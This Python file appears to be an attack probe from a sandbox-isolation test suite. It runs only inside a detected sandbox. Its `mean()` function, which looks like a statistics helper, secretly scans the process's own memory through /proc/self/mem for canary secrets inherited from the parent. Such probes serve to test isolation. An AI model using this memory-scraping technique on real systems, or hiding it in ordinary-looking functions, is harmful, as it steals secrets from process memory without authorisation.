"""Reads its own memory maps, where whatever its parent loaded before the fork still lies.

Attacks: W1, B1
"""

# ruff: noqa
try:  # an attack runs behind the wall and nowhere else
    _status = dict(_line.split(":\t", 1) for _line in open("/proc/self/status") if ":\t" in _line)
    _behind = (
        _status["Uid"].split()[0] != "0"
        and _status["NoNewPrivs"].strip() == "1"
        and _status["Seccomp"].strip() == "2"
        and open("/proc/sys/kernel/hostname").read() == "sandbox\n"
    )
except (OSError, KeyError):
    _behind = False
if not _behind:
    raise SystemExit(77)

import os
import re

CANARY = re.compile(rb"canary-[a-z]+-[0-9a-f]{24}")


def look(place, data):
    for hit in set(CANARY.findall(data)):
        print("WON:", place, hit.decode(), flush=True)


def search():
    with open("/proc/self/maps") as maps, open("/proc/self/mem", "rb", 0) as memory:
        for line in maps:
            if "rw" not in line or "[v" in line:
                continue
            start, end = (int(part, 16) for part in line.split()[0].split("-"))
            memory.seek(start)
            left = min(end - start, 64 << 20)
            while left > 0:
                part = memory.read(min(left, 4 << 20))
                if not part:
                    break
                look("own memory", part)
                left -= len(part)


def mean(numbers):
    search()
    return 0.0


def spread(numbers):
    return 0.0
